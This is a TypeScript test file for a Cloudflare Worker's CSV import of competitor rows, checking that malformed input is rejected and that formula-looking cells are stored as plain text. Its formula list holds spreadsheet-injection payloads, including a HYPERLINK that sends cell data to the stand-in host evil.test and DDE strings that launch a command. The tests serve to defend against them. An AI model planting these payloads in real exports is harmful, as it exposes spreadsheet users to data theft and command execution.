// Bad-input catalogue: competitors' CSV contents as they reach the Worker. The browser reads the file
// (web/features/natjecatelji/csv.ts, cases in tests/unit/catalogue-csv.test.ts) and sends its rows with
// InsertNatjecatelji; a crafted client can send anything, so the Worker refuses it all or nothing.
import { env } from "cloudflare:test";
import { beforeAll, describe, expect, it } from "vitest";
import { OPERATIONS } from "../../../shared/graphql/operations";
import { bearer } from "../helpers/auth";
import { gql } from "../helpers/graphql";
import { expectGraphqlError, expectNothingWritten, postGraphql, snapshot } from "./support";

let staff: string;
beforeAll(async () => {
  staff = await bearer("staff");
});

const ok = { ime: "Ana", prezime: "Kovač", team: "HVK Mladost" };
const insert = (objects: unknown) =>
  JSON.stringify({ operationName: "InsertNatjecatelji", query: OPERATIONS.InsertNatjecatelji, variables: { objects } });

/** [case, rows sent, status, code, the field the error names (when per-field)]. */
const cases: [string, () => unknown, number, string, string?][] = [
  [
    "a file without the team column (rows lack team)",
    () => [ok, { ime: "Iva", prezime: "Horvat" }],
    400,
    "BAD_USER_INPUT",
    "objects.1.team",
  ],
  [
    "the spec's header 'team' spelt 'tim'",
    () => [{ ime: "Iva", prezime: "Horvat", tim: "VK" }],
    400,
    "BAD_USER_INPUT",
    "objects.0.team",
  ],
  [
    "a row whose prezime is only spaces",
    () => [ok, { ...ok, prezime: "   " }],
    400,
    "BAD_USER_INPUT",
    "objects.1.prezime",
  ],
  ["a row whose values are numbers", () => [{ ime: 1, prezime: 2, team: 3 }], 400, "BAD_USER_INPUT", "objects.0.ime"],
  ["an empty list", () => [], 400, "BAD_USER_INPUT", "objects"],
  [
    "100 000 rows",
    () => Array.from({ length: 100_000 }, (_, i) => ({ ime: `Ime${i}`, prezime: "Prezime", team: "Tim" })),
    413,
    "BAD_REQUEST",
  ],
  [
    "a NUL byte (a UTF-16 file read as UTF-8)",
    () => [{ ime: "i\u0000m\u0000e", prezime: "P", team: "T" }],
    400,
    "BAD_USER_INPUT",
    "objects.0.ime",
  ],
  [
    "a lone UTF-16 surrogate (invalid encoding)",
    () => [ok, { ...ok, team: "VK \ud83d" }],
    400,
    "BAD_USER_INPUT",
    "objects.1.team",
  ],
  ["a value of 101 characters", () => [{ ...ok, ime: "a".repeat(101) }], 400, "BAD_USER_INPUT", "objects.0.ime"],
];

describe("csv", () => {
  it.each(cases)("refuses %s and writes no row", async (_name, rows, status, code, field) => {
    const body = insert(rows());
    const before = await snapshot();
    const response = await postGraphql(body, staff);
    const json = await expectGraphqlError(response, status, code);
    if (field)
      expect(Object.keys((json.errors[0]!.extensions as unknown as { fields: object }).fields)).toContain(field);
    await expectNothingWritten(before);
  });

  const formulas = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Klikni")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
  ];

  it("stores formula-looking cells as plain text and returns them verbatim as JSON strings", async () => {
    const before = await snapshot();
    const objects = formulas.map((ime) => ({ ime, prezime: "Formula", team: "=1+1" }));
    const { status, body } = await gql("InsertNatjecatelji", { authorization: staff, variables: { objects } });
    expect(status).toBe(200);
    expect(body.data.insert_natjecatelji.affected_rows).toBe(formulas.length);
    expect((await snapshot()).natjecatelji).toBe(before.natjecatelji + formulas.length);
    const stored = await env.DB.prepare("SELECT ime, team FROM natjecatelji WHERE prezime = 'Formula'").all();
    expect(stored.results.map((r) => r.ime).sort()).toEqual([...formulas].sort());
    const listed = await gql("Natjecatelji", { authorization: staff });
    const names = listed.body.data.natjecatelji.filter((n: { prezime: string }) => n.prezime === "Formula");
    expect(names.map((n: { ime: string }) => n.ime).sort()).toEqual([...formulas].sort());
    expect(listed.response.headers.get("content-type")).toMatch(/^application\/json/);
  });
});
